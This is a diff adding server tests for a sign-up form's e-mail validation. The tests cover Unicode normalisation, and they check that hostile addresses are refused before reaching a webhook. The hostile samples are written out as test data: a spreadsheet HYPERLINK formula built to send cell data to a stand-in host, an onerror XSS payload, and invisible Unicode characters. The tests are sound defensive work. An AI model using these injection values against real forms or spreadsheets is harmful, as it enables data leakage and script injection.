@@ -211,6 +211,31 @@ describe("restarts and stale pages", () => {
   });
 });
 
+describe("e-mails that must not pass, against the built server", () => {
+  it("the NFD and NFC spellings of one address, sent with one captcha token, are one sign-up relayed in NFC", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const decomposed = "joa\u0303o@exemplo.com.br";
+    const composed = "jo\u00e3o@exemplo.com.br";
+    expect((await signUp(app, decomposed, { hcaptchaToken: "t-joao" })).status).toBe(200);
+    expect((await signUp(app, composed, { hcaptchaToken: "t-joao" })).status).toBe(200);
+    expect(relayedEmails()).toEqual([composed]);
+  });
+
+  it.each([
+    '=HYPERLINK("http://x/?d="&A1,"Clique")@exemplo.com.br',
+    "<img/src=x/onerror=alert(1)>@exemplo.com.br",
+    "ana\u034F@exemplo.com.br",
+    "ana\u3164@exemplo.com.br",
+  ])("%j is refused with 'E-mail inválido' and never reaches the automation", async (address) => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const answer = await signUp(app, address);
+    expect(answer.status).toBe(400);
+    expect(answer.body.notice).toEqual({ title: "E-mail inválido", description: "Por favor, informe um e-mail válido." });
+    expect(answer.body.email).toBe(address);
+    expect(standIn.received.webhook).toHaveLength(0);
+  });
+});
+
 describe("stopping", () => {
   it("with default timeouts, SIGTERM lets a sign-up in flight finish and be answered, then exits 0", async () => {
     const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
